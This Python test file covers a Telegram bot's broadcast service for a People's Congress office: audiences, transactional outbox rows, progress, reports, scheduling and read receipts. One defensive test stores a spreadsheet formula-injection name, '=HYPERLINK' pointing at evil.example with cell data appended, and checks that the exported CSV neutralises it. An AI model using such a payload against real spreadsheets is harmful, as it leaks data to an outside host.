"""Broadcast service: audiences, one transaction for the notice and its rows, progress and report."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from sqlalchemy import func, select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.broadcasts import buttons as b
from bot.broadcasts import lifecycle as lc
from bot.broadcasts import service as svc
from bot.kit.i18n import translator
from bot.network import import_network
from bot.runtime.settings import load_settings
from storage.models import (
    Broadcast,
    BroadcastAck,
    BroadcastStatus,
    Deputy,
    DeputyLevel,
    OutboxMessage,
    OutboxStatus,
    Person,
    Receipt,
    Role,
)
from storage.unit_of_work import UnitOfWork

NETWORK = Path(__file__).resolve().parent / "data" / "network_e2e.yaml"
EN = translator("en")
ZH = translator("zh_Hans")
# The official head of every notice: no CONGRESS_NAME set, so the generic office, and the day.
HEAD_ZH = r"📢 <b>人大常委会</b>通知 · \d{4}-\d{2}-\d{2}"


async def seeded(sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]) -> int:
    """The e2e network plus an English-speaking staff member; returns the staff member's person id."""
    await import_network(sessionmaker, NETWORK)
    async with uow() as u:
        staff = await u.people.add(Person(name="Office", telegram_id=900001, language="en"))
        await u.people.grant(staff, Role.STAFF)
        await u.commit()
        return staff.id


async def make(uow: Callable[[], UnitOfWork], staff_id: int, audience: svc.Audience, text: str) -> int:
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.create(u, person=staff, chat_id=900001, text=text, photo=None, audience=audience)
        await svc.announce(u, made, EN)
        await u.commit()
        return made.id


async def outbox(u: UnitOfWork, **where: object) -> list[OutboxMessage]:
    stmt = select(OutboxMessage).order_by(OutboxMessage.id)
    for key, value in where.items():
        stmt = stmt.where(getattr(OutboxMessage, key) == value)
    return list(await u.session.scalars(stmt))


def test_audience_keys_are_checked() -> None:
    assert svc.parse_audience("level:county") == svc.Audience("level", "county")
    assert svc.parse_audience("station:V1") == svc.Audience("station", "V1")
    assert svc.parse_audience("sdep:T1") == svc.Audience("sdep", "T1")
    assert svc.parse_audience("group:g1") == svc.Audience("group", "g1")
    assert svc.parse_audience("scom:AGRI") == svc.Audience("scom", "AGRI")
    for forged in (None, "", "level:emperor", "all:x", "deputies:1", "station:", "nobody", "group:", "scom"):
        assert svc.parse_audience(forged) is None
    assert svc.parse_audience("group:" + "x" * 33) is None
    assert svc.describe(svc.Audience("level", "township"), EN) == "Township deputies"
    assert svc.describe(svc.Audience("station", "V1"), EN, "<V1>") == "Constituents of &lt;V1&gt;"
    assert svc.describe(svc.Audience("sdep", "T1"), EN, "乙镇") == "Deputies of 乙镇 and its stations below"
    assert svc.describe(svc.Audience("group", "g1"), EN, "a&b") == "Deputy group a&amp;b"
    assert svc.describe(svc.Audience("scom", "AGRI"), EN, "农业") == "Deputies in contact with 农业"


def test_progress_line() -> None:
    b = Broadcast(id=7, status="sending")
    p = svc.Progress(total=3000, pending=1800, sent=1198, blocked=1, failed=1, cancelled=0)
    assert svc.render_progress(EN, b, p) == "Notice #7: sending…\n▓▓▓▓░░░░░░ 1,200 / 3,000 · 2 failed"
    assert (
        svc.render_progress(EN, b, p, 28.4)
        == "Notice #7: sending…\n▓▓▓▓░░░░░░ 1,200 / 3,000 · 28/s · 2 failed"
    )
    done = Broadcast(id=7, status="done", paid=True)
    assert (
        svc.render_progress(ZH, done, p, 28.4)
        == "通知 #7：已发送完毕。（付费通道）\n▓▓▓▓░░░░░░ 1,200 / 3,000 · 2 条失败"
    )


async def test_recipients_by_audience(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    await seeded(sessionmaker, uow)
    async with uow() as u:

        async def ids(key: str) -> list[int]:
            audience = svc.parse_audience(key)
            assert audience is not None
            return await svc.recipients(u, audience)

        assert await ids("deputies") == [101, 102, 201, 202, 203]
        assert await ids("level:township") == [202, 203]
        assert await ids("level:national") == []
        assert await ids("committee") == [101, 102]
        assert await ids("presidium") == [101]
        assert await ids("station:V1") == [301]  # its deputies are not its constituents
        assert await ids("station:T1") == [301]  # the villages of the township included; C2 has no Telegram
        assert await ids("station:V3") == [] and await ids("station:NOPE") == []
        assert await ids("all") == [101, 102, 201, 202, 203, 301, 900001]


async def test_notice_and_rows_in_one_transaction(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        await svc.create(u, person=staff, chat_id=900001, text="x", photo=None, audience=svc.Audience("all"))
        # no commit: as if the process died before it
    async with uow() as u:
        assert await u.session.scalar(select(func.count()).select_from(Broadcast)) == 0
        assert await outbox(u) == []

    bid = await make(uow, staff_id, svc.Audience("level", "township"), "<b>Meet</b> & greet")
    async with uow() as u:
        rows = await outbox(u, broadcast_id=bid)
        assert [r.chat_id for r in rows] == [202, 203]
        assert {r.method for r in rows} == {"sendMessage"} and {r.priority for r in rows} == {svc.PRIORITY}
        # Under the official head (the office, the day in the congress's zone), as typed.
        assert re.fullmatch(HEAD_ZH + r"\n\n&lt;b&gt;Meet&lt;/b&gt; &amp; greet", rows[0].payload["text"])
        [progress] = await outbox(u, ref=svc.progress_ref(bid))
        assert progress.chat_id == 900001 and "0 / 2" in progress.payload["text"]
        assert progress.payload["reply_markup"]["inline_keyboard"][0][0]["callback_data"] == f"bc:x:{bid}"
        stored = await u.session.get(Broadcast, bid)
        assert stored is not None and (stored.status, stored.total, stored.audience) == (
            "sending",
            2,
            "level:township",
        )


async def test_photo_rows(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.create(
            u, person=staff, chat_id=900001, text="a<b", photo="FILE", audience=svc.Audience("presidium")
        )
        await u.commit()
        [row] = await outbox(u, broadcast_id=made.id)
    assert row.method == "sendPhoto"
    caption = row.payload.pop("caption")
    assert row.payload == {"chat_id": 101, "photo": "FILE", "parse_mode": "HTML"}
    assert re.fullmatch(HEAD_ZH + r"\n\na&lt;b", caption)


async def test_undelivered_list_defuses_names_a_spreadsheet_would_run(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    """A recipient named like a formula lands in staff's Excel as text, not as a live HYPERLINK."""
    staff_id = await seeded(sessionmaker, uow)
    bid = await make(uow, staff_id, svc.Audience("deputies"), "hello")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    async with uow() as u:
        await u.session.execute(update(Person).where(Person.telegram_id == 201).values(name=evil))
        await u.session.execute(update(Person).where(Person.telegram_id == 202).values(name=" @SUM(1+1)"))
        await u.session.execute(
            update(OutboxMessage).where(OutboxMessage.broadcast_id == bid).values(status=OutboxStatus.FAILED)
        )
        await u.commit()
    async with uow() as u:
        _count, text = await svc.undelivered_csv(u, bid)
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["201"] == "'" + evil and names["202"] == "' @SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_progress_edits_then_done_and_report(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    bid = await make(uow, staff_id, svc.Audience("deputies"), "hello")
    async with uow() as u:
        rows = await outbox(u, broadcast_id=bid)
        for row, status in zip(rows, ["sent", "sent", "blocked"], strict=False):
            row.status = status
        await u.commit()
    async with uow() as u:
        # A crash now resumes where it stopped: only the two pending rows are still due.
        due = await u.outbox.due(datetime.now(UTC) + timedelta(seconds=1))
        assert [r.chat_id for r in due if r.broadcast_id == bid] == [202, 203]
        assert await svc.refresh_progress(u) == 1
        await u.commit()
        [edit] = await outbox(u, method="editMessageText")
        assert edit.payload["text"] == "Notice #1: sending…\n▓▓▓▓▓▓░░░░ 3 / 5 · 1 failed"
        assert edit.payload["_edit_ref"] == svc.progress_ref(bid)
    async with uow() as u:
        assert await svc.refresh_progress(u) == 0  # nothing moved: no edit
        await u.session.execute(
            update(OutboxMessage)
            .where(OutboxMessage.broadcast_id == bid, OutboxMessage.status == "pending")
            .values(status=OutboxStatus.FAILED)
        )
        assert await svc.refresh_progress(u) == 2
        await u.commit()
        done = await u.session.get(Broadcast, bid)
        assert done is not None and (done.status, done.sent, done.blocked, done.failed) == ("done", 2, 1, 2)
        assert done.finished_at is not None
        report = (await outbox(u, method="sendMessage", chat_id=900001))[-1]
        assert report.payload["text"] == (
            "Report on notice #1 (All deputies):\nSent: 2\n"
            "Blocked (never started the bot, or blocked it): 1\nFailed: 2\n"
            "The undelivered recipients are listed in the file below."
        )
        [listing] = await outbox(u, method="sendDocument", chat_id=900001)
        assert listing.payload["caption"] == "Undelivered recipients of notice #1: 3"
        upload = listing.payload["_upload"]
        assert (upload["field"], upload["filename"]) == ("document", "notice-1-undelivered.csv")
        assert upload["text"].splitlines() == [
            "telegram_id,name,code,status,error",
            "201,孙建国,D1,blocked,",
            "202,Deputy Wu,D2,failed,",
            "203,李秀英,D3,failed,",
        ]
    async with uow() as u:
        assert await svc.refresh_progress(u) == 0  # reported once


async def test_cancel_marks_pending_rows_and_reports(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    bid = await make(uow, staff_id, svc.Audience("committee"), "hello")
    async with uow() as u:
        [first, _] = await outbox(u, broadcast_id=bid)
        first.status = OutboxStatus.SENT
        made = await u.session.get(Broadcast, bid)
        assert made is not None
        assert await svc.cancel(u, made) == 1
        await u.commit()
        statuses = [r.status for r in await outbox(u, broadcast_id=bid)]
        assert statuses == ["sent", "cancelled"] and made.status == "cancelled"
        report = (await outbox(u, method="sendMessage", chat_id=900001))[-1]
        assert "Sent: 1" in report.payload["text"] and "Cancelled before sending: 1" in report.payload["text"]
        assert await svc.refresh_progress(u) == 0


async def test_new_audiences(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    await seeded(sessionmaker, uow)
    async with uow() as u:

        async def ids(key: str) -> list[int]:
            audience = svc.parse_audience(key)
            assert audience is not None
            return await svc.recipients(u, audience)

        assert await ids("sdep:V1") == [201, 202]
        assert await ids("sdep:V2") == [203]
        assert await ids("sdep:T1") == [201, 202, 203]  # its villages' deputies
        assert await ids("sdep:H1") == [101, 102, 201, 202, 203]
        assert await ids("sdep:V3") == [] and await ids("sdep:NOPE") == []
        assert await ids("group:g1") == [201, 202]
        assert await ids("group:nope") == []
        assert await ids("scom:AGRI") == [201]
        assert await ids("scom:TRAF") == [202]
        assert await ids("scom:NOPE") == []
        assert await svc.audience_name(u, svc.Audience("group", "g1")) == "农业代表小组"
        assert await svc.audience_name(u, svc.Audience("scom", "AGRI")) == "农业农村委员会"
        assert await svc.audience_name(u, svc.Audience("sdep", "T1")) == "乙镇人大代表工作站"
        assert await svc.audience_name(u, svc.Audience("group", "nope")) is None


async def test_document_rows(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.create(
            u,
            person=staff,
            chat_id=900001,
            text="agenda",
            photo=None,
            document="DOC",
            audience=svc.Audience("presidium"),
        )
        await u.commit()
        [row] = await outbox(u, broadcast_id=made.id)
    assert row.method == "sendDocument"
    caption = row.payload.pop("caption")
    assert row.payload == {"chat_id": 101, "document": "DOC", "parse_mode": "HTML"}
    assert re.fullmatch(HEAD_ZH + r"\n\nagenda", caption)
    assert made.document_file_id == "DOC" and made.photo_file_id is None


def test_presets_and_typed_times() -> None:
    zone = ZoneInfo("Asia/Shanghai")
    morning = datetime(2026, 3, 2, 10, 15, 30, tzinfo=zone)  # 10:15:30 local
    assert svc.preset_time("h1", morning, zone) == datetime(2026, 3, 2, 11, 16, tzinfo=zone)
    assert svc.preset_time("t20", morning, zone) == datetime(2026, 3, 2, 20, 0, tzinfo=zone)
    assert svc.preset_time("m0830", morning, zone) == datetime(2026, 3, 3, 8, 30, tzinfo=zone)
    late = datetime(2026, 3, 2, 21, 0, tzinfo=zone)
    assert svc.preset_time("t20", late, zone) is None  # tonight 20:00 has passed
    # Just after midnight UTC is already morning in Shanghai: "tomorrow" is the local tomorrow.
    assert svc.preset_time("m0830", datetime(2026, 3, 2, 23, 30, tzinfo=UTC), zone) == datetime(
        2026, 3, 4, 8, 30, tzinfo=zone
    )
    assert svc.preset_time("forged", morning, zone) is None

    when = svc.parse_when("2026-03-05 08:30", morning, zone)
    assert when.at == datetime(2026, 3, 5, 0, 30, tzinfo=UTC) and when.problem is None
    assert svc.parse_when("２０２６－０３－０５　０８：３０", morning, zone).at == when.at  # full-width input
    assert svc.parse_when(" 2026-3-5 8:30 ", morning, zone).at == when.at
    assert svc.parse_when("2026-03-02 10:00", morning, zone).problem == "past"
    assert svc.parse_when("2026-07-01 10:00", morning, zone).problem == "far"
    for bad in (
        None,
        "",
        "tomorrow",
        "2026-02-30 08:00",
        "2026-03-05 25:00",
        "2026-03-05",
        "08:30",
        "x" * 5000,
    ):
        assert svc.parse_when(bad, morning, zone).problem == "format", bad


async def test_scheduled_notice_starts_once_when_due(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    at = datetime(2026, 3, 3, 0, 30, tzinfo=UTC)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.schedule(
            u,
            person=staff,
            chat_id=900001,
            text="tomorrow",
            photo=None,
            audience=svc.Audience("group", "g1"),
            at=at,
        )
        await u.commit()
        bid = made.id
    async with uow() as u:
        assert made.status == "scheduled" and await outbox(u) == []  # no rows until it starts
        assert [b.id for b in await svc.scheduled(u)] == [bid]
        assert await svc.start_due(u, at - timedelta(seconds=1)) == []
        # Someone joins the group before it starts: the audience is resolved then, not when scheduled.
        await u.session.execute(update(Person).where(Person.telegram_id == 203).values(name="李秀英"))
        started = await svc.start_due(u, at)
        await u.commit()
        assert [b.id for b in started] == [bid]
    async with uow() as u:
        stored = await u.session.get(Broadcast, bid)
        assert stored is not None and (stored.status, stored.total, stored.started_at) == ("sending", 2, at)
        assert [r.chat_id for r in await outbox(u, broadcast_id=bid)] == [201, 202]
        [progress] = await outbox(u, ref=svc.progress_ref(bid))
        assert "0 / 2" in progress.payload["text"]
        [entry] = (await u.audit.recent())[:1]
        assert entry.action == "broadcast.started" and entry.detail["total"] == 2
        assert await svc.start_due(u, at + timedelta(hours=1)) == []  # started once, never again
        assert await svc.scheduled(u) == []


async def test_unschedule_writes_nothing(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    at = datetime(2026, 3, 3, 0, 30, tzinfo=UTC)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.schedule(
            u, person=staff, chat_id=900001, text="x", photo=None, audience=svc.Audience("all"), at=at
        )
        await u.commit()
        locked = await svc.get_for_change(u, made.id)
        assert locked is not None
        await svc.unschedule(u, locked)
        await u.commit()
    async with uow() as u:
        assert await svc.start_due(u, at + timedelta(days=1)) == []
        assert await outbox(u) == []
        stored = await u.session.get(Broadcast, made.id)
        assert stored is not None and stored.status == "cancelled"


async def test_paid_tier_only_when_allowed_and_large(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    on = load_settings(allow_paid_broadcast=True, paid_broadcast_min_audience=5)
    off = load_settings()
    assert not off.allow_paid_broadcast  # off by default
    assert svc.paid_offered(on, 5) and not svc.paid_offered(on, 4) and not svc.paid_offered(off, 5000)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        cases = [
            (on, "deputies", True),  # 5 recipients: large enough
            (on, "committee", False),  # 2: too few to pay for
            (off, "deputies", False),  # the office did not opt in
            (None, "deputies", False),
        ]
        for settings, key, paid in cases:
            audience = svc.parse_audience(key)
            assert audience is not None
            made = await svc.create(
                u,
                person=staff,
                chat_id=900001,
                text="x",
                photo=None,
                audience=audience,
                paid=True,
                settings=settings,
            )
            rows = await outbox(u, broadcast_id=made.id)
            assert made.paid is paid
            assert {r.payload.get("allow_paid_broadcast", False) for r in rows} == {paid}


async def test_live_rate_and_one_queued_edit_at_a_time(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    start = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.create(
            u, person=staff, chat_id=900001, text="x", photo=None, audience=svc.Audience("all"), now=start
        )
        await svc.announce(u, made, EN)
        rows = await outbox(u, broadcast_id=made.id)
        for i, row in enumerate(rows[:5]):  # 5 recipients handled within 2 s of the start
            row.status, row.sent_at = OutboxStatus.SENT, start + timedelta(seconds=0.5 * i)
        await u.commit()
    async with uow() as u:
        stored = await u.session.get(Broadcast, made.id)
        assert stored is not None
        assert await svc.recent_rate(u, stored) == 2.5  # 5 in 2 s
        assert await svc.refresh_progress(u) == 1
        await u.commit()
        [edit] = await outbox(u, method="editMessageText")
        assert edit.payload["text"] == "Notice #1: sending…\n▓▓▓▓▓▓▓░░░ 5 / 7 · 2/s"
    async with uow() as u:
        rows = await outbox(u, broadcast_id=made.id)
        rows[5].status, rows[5].sent_at = OutboxStatus.SENT, start + timedelta(seconds=3)
        await u.commit()
        # The earlier edit is still queued (the sender's chat goes at ~1/s): no second one piles up.
        assert await svc.refresh_progress(u) == 0
        await u.session.execute(
            update(OutboxMessage).where(OutboxMessage.id == edit.id).values(status="sent")
        )
        await u.commit()
        # Sent now, but queued under 5 s ago: edits spend the overall budget, so they are spaced out.
        assert await svc.refresh_progress(u) == 0
        await u.session.execute(
            update(OutboxMessage)
            .where(OutboxMessage.id == edit.id)
            .values(created_at=datetime.now(UTC) - svc.PROGRESS_EVERY)
        )
        await u.commit()
        assert await svc.refresh_progress(u) == 1
        await u.commit()
        assert len(await outbox(u, method="editMessageText")) == 2


# ------------------------------------------------------------------ the declared lifecycle, the buttons


def test_the_lifecycle_walks_from_nothing_to_a_final_status_and_never_out_of_one() -> None:
    """Every declared row is reachable from "no notice yet", every status reaches a final one, a final
    status has no way out, and `decide` answers exactly as the table says for each pair."""
    reached: set[lc.Status] = {None}
    frontier: list[lc.Status] = [None]
    while frontier:
        source = frontier.pop()
        for rule in lc.TRANSITIONS:
            if source in rule.sources and rule.target not in reached:
                reached.add(rule.target)
                frontier.append(rule.target)
    assert reached == {None, *BroadcastStatus}
    for status in BroadcastStatus:
        exits = [r for r in lc.TRANSITIONS if status in r.sources]
        assert (not exits) == (status in lc.FINAL), status
    for status in [None, *BroadcastStatus]:
        for action in lc.Action:
            for who in lc.ActorKind:
                rules = [r for r in lc.TRANSITIONS if r.action == action and status in r.sources]
                verdict = lc.decide(status, action, who)
                if rules and who in rules[0].who:
                    assert verdict == lc.Transition(action, status, rules[0].target, who)
                else:
                    assert isinstance(verdict, lc.Refusal), (status, action, who)
    assert lc.decide("done", lc.Action.CANCEL, lc.ActorKind.STAFF) == lc.Refusal(
        lc.RefusalReason.FINAL, "cancel not from done"
    )
    assert (
        lc.decide("scheduled", lc.Action.START, lc.ActorKind.STAFF).reason == lc.RefusalReason.NOT_PERMITTED
    )  # type: ignore[union-attr]


def test_the_lifecycle_diagram_is_the_table() -> None:
    """The docstring's Mermaid diagram is what `mermaid()` draws from TRANSITIONS, line for line."""
    documented = [line.strip() for line in (lc.__doc__ or "").splitlines()]
    drawn = [line.strip() for line in lc.mermaid().splitlines()]
    start = documented.index(drawn[0])
    assert documented[start : start + len(drawn)] == drawn


def test_a_move_the_table_does_not_allow_raises() -> None:
    done = Broadcast(id=3, status=BroadcastStatus.DONE)
    try:
        lc.move(done, lc.Action.CANCEL, lc.ActorKind.STAFF)
    except lc.LifecycleError:
        pass
    else:
        raise AssertionError("a finished notice was cancelled")
    assert done.status == BroadcastStatus.DONE
    fresh = Broadcast()
    lc.move(fresh, lc.Action.SCHEDULE, lc.ActorKind.STAFF, new=True)
    assert fresh.status == BroadcastStatus.SCHEDULED


def test_button_kinds_round_trip_and_refuse_forged_data() -> None:
    kinds: list[b.Button] = [
        b.CancelNotice(42),
        b.Send(),
        b.Discard(),
        b.Later(),
        b.Back(),
        b.TypeTime(),
        b.PaidToggle(),
        b.Menu(),
        b.Levels(),
        b.AskStation(),
        b.AskStationDeputies(),
        *(b.PresetTime(p) for p in b.Preset),
        *(b.PickLevel(level) for level in DeputyLevel),
        *(b.PickFixed(f) for f in b.Fixed),
        b.Page(b.Listing.GROUPS),
        b.Page(b.Listing.COMMITTEES, 3),
        b.PickGroup(7),
        b.PickCommittee(8),
        b.ReceiptToggle(),
        b.Acknowledge(5),
        b.Unconfirmed(5),
        b.Remind(5),
    ]
    everything = {type(k) for k in kinds}
    for kind in kinds:
        data = kind.pack()
        assert len(data.encode()) <= 64 and data.startswith("bc:")
        assert type(kind).parse(data) == kind
        # Exactly one kind takes it: no two patterns overlap.
        assert [k for k in everything if re.match(k.pattern(), data)] == [type(kind)], data
    # The progress message's Cancel outlives a deploy: its data keeps its format.
    assert b.CancelNotice(42).pack() == "bc:x:42"
    # So do the recipients' ✅ and the progress message's list and reminder.
    assert (b.Acknowledge(5).pack(), b.Unconfirmed(5).pack(), b.Remind(5).pack()) == (
        "bc:rcv:5",
        "bc:who:5",
        "bc:rem:5",
    )
    assert b.Page(b.Listing.GROUPS).pack() == "bc:a:list:groups"
    for forged in (
        "bc:x",
        "bc:x:-1",
        "bc:x:abc",
        "bc:x:1:2",
        "bc:ok:1",
        "bc:at:h2",
        "bc:a:level:galactic",
        "bc:a:to:everyone",
        "bc:a:list:people",
        "bc:a:group:x",
        "bc:a:scom:",
        "bc:x:" + "9" * 70,
        "bc:rcv",
        "bc:rcv:-5",
        "bc:rcv:5:1",
        "bc:rem:x",
        "bc:who:",
    ):
        assert all(k.parse(forged) is None for k in everything), forged


def test_every_state_has_a_step_and_every_button_kind_a_handler() -> None:
    """The dialog's states are plain values with a step each; the wiring gets one handler per kind."""
    from bot.runtime.wiring import handlers
    from handlers import broadcast

    assert set(broadcast.DIALOG) == set(broadcast.BroadcastDialog)
    assert all(":" not in state.value for state in broadcast.BroadcastDialog)
    kinds = {
        k for k in vars(b).values() if isinstance(k, type) and issubclass(k, b.Button) and k is not b.Button
    }
    patterns = {h.pattern.pattern for h in broadcast.BUTTONS}  # type: ignore[attr-defined]
    assert patterns == {k.pattern() for k in kinds}
    wired = handlers()
    assert all(h in wired for h in broadcast.BUTTONS)


# ------------------------------------------------------------------ reach and "received" (收到)


async def test_the_audience_without_telegram_is_counted_and_listed(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    """Members without an account are counted in the preview and listed; a constituent's phone only
    when they shared it, a deputy's from the office's roster; "everyone" means those with an account."""
    await seeded(sessionmaker, uow)
    async with uow() as u:
        roster = await u.people.add(Person(name="赵无号", code="D7", phone="+8613800000007"))
        u.session.add(Deputy(person_id=roster.id, level=DeputyLevel.COUNTY, fields=[]))
        await u.commit()
    async with uow() as u:
        township = await svc.choose(u, svc.Audience("station", "t1"))
        assert township is not None and (township.count, township.unreachable) == (1, 1)  # 301; C2
        [c2] = await svc.unreachable(u, svc.Audience("station", "T1"))
        assert (c2.name, c2.code, c2.level, c2.stations, c2.phone_shared) == (
            "吴大海",
            "C2",
            None,
            ("丁村人大代表联络站",),
            False,
        )
        deputies = await svc.choose(u, svc.Audience("deputies"))
        assert deputies is not None and (deputies.count, deputies.unreachable) == (5, 1)
        everyone = await svc.choose(u, svc.Audience("all"))
        assert everyone is not None and everyone.unreachable == 0
        listed = await svc.unreachable(u, svc.Audience("deputies"))
        c2_shared = dataclasses.replace(c2, phone_shared=True)
    rows = list(csv.reader(io.StringIO(svc.unreachable_csv(ZH, [*listed, c2, c2_shared]))))
    assert rows == [
        ["姓名", "编号", "级别", "联络站", "电话"],
        ["赵无号", "D7", "县级", "", "'+8613800000007"],
        ["吴大海", "C2", "", "丁村人大代表联络站", ""],  # never shared: the office does not see it
        ["吴大海", "C2", "", "丁村人大代表联络站", "'+8613900000002"],
    ]


def test_the_head_names_the_office_and_the_day_in_the_congress_zone() -> None:
    settings = load_settings(congress_name="怒江州人大常委会<>", timezone="Asia/Shanghai")
    late = datetime(2026, 12, 7, 17, 30, tzinfo=UTC)  # already the 8th in Shanghai
    assert svc.letterhead(ZH, settings, late) == "📢 <b>怒江州人大常委会&lt;&gt;</b>通知 · 2026-12-08"
    assert svc.letterhead(EN, settings, late) == "📢 Notice from <b>怒江州人大常委会&lt;&gt;</b> · 2026-12-08"
    assert svc.letterhead(EN, None, late).startswith(
        "📢 Notice from <b>People’s Congress Standing Committee</b>"
    )
    # The head takes its room from Telegram's limit: a text that fits alone may no longer fit.
    draft = svc.Draft(text="x" * 4096)
    assert draft.room(settings) < 4096 - len("📢 Notice from 怒江州人大常委会<> · 2026-12-08")


def test_receipt_rules_acknowledge_while_out_and_remind_once_when_done() -> None:
    rc, act, who = lc.decide_receipt, lc.ReceiptAction, lc.ActorKind
    for status in ("sending", "done", "cancelled"):
        assert rc("asked", status, act.ACKNOWLEDGE, who.RECIPIENT) == Receipt.ASKED
        assert rc("reminded", status, act.ACKNOWLEDGE, who.RECIPIENT) == Receipt.REMINDED
    assert rc("asked", "done", act.REMIND, who.STAFF) == Receipt.REMINDED
    refused = {
        (None, "done", act.ACKNOWLEDGE, who.RECIPIENT): lc.RefusalReason.NOT_ASKED,
        ("asked", "scheduled", act.ACKNOWLEDGE, who.RECIPIENT): lc.RefusalReason.STALE_STATE,
        ("asked", "done", act.ACKNOWLEDGE, who.STAFF): lc.RefusalReason.NOT_PERMITTED,
        ("reminded", "done", act.REMIND, who.STAFF): lc.RefusalReason.ONCE,
        ("asked", "sending", act.REMIND, who.STAFF): lc.RefusalReason.STALE_STATE,
        ("asked", "cancelled", act.REMIND, who.STAFF): lc.RefusalReason.STALE_STATE,
        ("asked", "done", act.REMIND, who.RECIPIENT): lc.RefusalReason.NOT_PERMITTED,
    }
    for args, reason in refused.items():
        verdict = rc(*args)
        assert isinstance(verdict, lc.Refusal) and verdict.reason == reason, args
    documented = [line.strip() for line in (lc.__doc__ or "").splitlines()]
    drawn = [line.strip() for line in lc.receipt_mermaid().splitlines()][1:]
    start = documented.index(drawn[0])
    assert documented[start : start + len(drawn)] == drawn


async def test_acknowledge_once_by_recipients_and_remind_once_after_sending(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
    settings = load_settings()
    now = datetime.now(UTC)
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.create(
            u,
            person=staff,
            chat_id=900001,
            text="x",
            photo=None,
            audience=svc.Audience("committee"),
            ack=True,
        )
        await u.commit()
        bid = made.id
        rows = await outbox(u, broadcast_id=bid)
        assert [r.payload["reply_markup"]["inline_keyboard"][0][0]["callback_data"] for r in rows] == [
            f"bc:rcv:{bid}"
        ] * 2
    async with uow() as u:
        p101 = await u.people.by_telegram_id(101)
        p201 = await u.people.by_telegram_id(201)
        staff = await u.people.get(staff_id)
        assert p101 and p201 and staff
        got = await svc.acknowledge(u, bid, person=p101, telegram_id=101, now=now)
        assert isinstance(got, svc.Acknowledged)
        again = await svc.acknowledge(u, bid, person=p101, telegram_id=101, now=now)
        assert isinstance(again, svc.Refusal) and again.reason == lc.RefusalReason.ONCE
        stranger = await svc.acknowledge(u, bid, person=p201, telegram_id=201, now=now)
        assert isinstance(stranger, svc.Refusal) and stranger.reason == lc.RefusalReason.NOT_PERMITTED
        early = await svc.remind(u, bid, person=staff, telegram_id=900001, settings=settings, now=now)
        assert isinstance(early, svc.Refusal) and early.reason == lc.RefusalReason.STALE_STATE  # sending
        await u.session.execute(
            update(OutboxMessage).where(OutboxMessage.broadcast_id == bid).values(status=OutboxStatus.SENT)
        )
        assert await svc.refresh_progress(u) == 2  # done, with the count of those who confirmed
        await u.commit()
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        listed = await svc.silent_list(u, bid, EN)
        assert listed == "Not yet confirmed, notice #1: 1\n· 钱志强 (M1)"
        sent = await svc.remind(u, bid, person=staff, telegram_id=900001, settings=settings, now=now)
        assert isinstance(sent, svc.Reminded) and sent.count == 1
        await u.commit()
        [reminder] = [r for r in await outbox(u, chat_id=102) if r.broadcast_id is None]
        assert reminder.payload["text"].startswith("⏰ 提醒：请确认已收到这条通知。")
        second = await svc.remind(u, bid, person=staff, telegram_id=900001, settings=settings, now=now)
        assert isinstance(second, svc.Refusal) and second.reason == lc.RefusalReason.ONCE
        stored = await u.session.get(Broadcast, bid)
        assert stored is not None and (stored.receipt, stored.acked) == ("reminded", 1)
        assert await u.session.scalar(select(func.count()).select_from(BroadcastAck)) == 1


async def test_a_scheduled_notice_asking_for_received_carries_its_button_and_the_start_day(
    sessionmaker: async_sessionmaker[AsyncSession], uow: Callable[[], UnitOfWork]
) -> None:
    staff_id = await seeded(sessionmaker, uow)
